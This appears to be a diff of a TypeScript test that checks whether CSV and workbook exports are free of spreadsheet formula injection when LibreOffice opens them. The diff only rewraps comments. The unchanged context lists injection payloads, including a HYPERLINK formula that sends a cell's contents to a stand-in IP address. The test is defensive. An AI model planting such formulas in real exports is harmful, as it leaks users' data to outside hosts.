@@ -13,7 +13,10 @@ import { HOSTILE } from './sheets/hostile.ts'
 
 const community = '/api/communities/rongbu'
 const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u3000', '＝', '＋', '－', '＠']
-/** What a spreadsheet would carry out: sums, links, programs, other files; bare, and after what might begin another cell. */
+/**
+ * What a spreadsheet would carry out: sums, links, programs, other files; bare, and after what might begin
+ * another cell.
+ */
 const FORMULAS = [
   ...SIGNS.flatMap((sign) => [`${sign}1+1`, `${sign}=1+1`, `${sign}SUM(1,2)`]),
   '=HYPERLINK("http://192.0.2.1/?"&A1,"看")',
@@ -189,7 +192,8 @@ test('LibreOffice finds no formula in what Grove exports', { timeout: 300_000 },
   // So that a LibreOffice which never finds a formula is not taken for a proof.
   writeFileSync(join(folder, 'bare.csv'), 'n,text\n1,=1+1\n')
   const names = (list: [string, Buffer][]) => list.map(([name]) => name.replace('.', `-${name.slice(-3)}.`))
-  // Comma, semicolon and tab (44/59/9) at once, as LibreOffice's own dialogue proposes; quotes 34; UTF-8 is 76.
+  // Comma, semicolon and tab (44/59/9) at once, as LibreOffice's own dialogue proposes; quotes 34; UTF-8 is
+  // 76.
   const read = [
     ...convert([...names(csvs()), 'bare.csv'], ['--infilter=CSV:44/59/9,34,76,1']),
     ...convert(names(workbooks()), []),
